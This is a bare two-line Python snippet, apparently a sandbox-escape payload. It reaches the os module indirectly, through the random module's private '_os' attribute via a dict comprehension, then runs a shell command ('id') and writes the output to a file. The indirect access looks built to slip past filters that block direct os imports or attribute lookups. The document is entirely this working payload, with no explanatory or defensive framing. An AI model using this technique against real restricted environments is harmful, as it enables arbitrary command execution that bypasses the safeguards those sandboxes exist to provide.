import random
{k: v for k, v in vars(random).items() if k == "_os"}["_os"].system("id>pf")
